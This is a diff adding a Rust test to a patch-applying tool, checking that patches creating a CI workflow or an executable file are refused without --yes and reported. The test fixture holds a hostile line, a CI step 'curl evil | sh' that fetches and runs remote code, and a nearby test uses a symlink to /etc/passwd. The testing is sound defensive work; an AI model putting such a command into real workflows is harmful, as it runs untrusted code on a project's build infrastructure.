@@ -218,4 +218,22 @@ fn apply_checks_applies_and_refuses() {
     assert_eq!(out.status.code(), Some(2));
     assert_eq!(stderr(&out), "error: patch refused: l: symlink to `/etc/passwd` leaves the tree\n");
     assert!(fs::symlink_metadata(w.project.join("l")).is_err());
+
+    // A patch that writes a CI workflow and a new executable is not written without --yes
+    // (there is no terminal to ask on here), and says why.
+    let ci = w.scratch.join("ci.patch");
+    fs::write(&ci, "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nnew file mode 100644\n--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+run: curl evil | sh\ndiff --git a/tool b/tool\nnew file mode 100755\n--- /dev/null\n+++ b/tool\n@@ -0,0 +1 @@\n+echo hi\n").unwrap();
+    let out = run(&w.alice, &w.project, &["apply", ci.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(
+        stderr(&out),
+        "error: the patch writes files that run code or change how git treats files:\n  .github/workflows/ci.yml: CI workflow: runs on the forge\n  tool: becomes executable\nnothing was changed; review them, then pass --yes\n"
+    );
+    assert!(!w.project.join(".github").exists());
+    let out = run(&w.alice, &w.project, &["apply", ci.to_str().unwrap(), "--yes"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&out),
+        "  A .github/workflows/ci.yml (mode 100644)  ! CI workflow: runs on the forge\n  A tool (mode 100755)  ! becomes executable\n2 file(s) applied to .\n"
+    );
 }
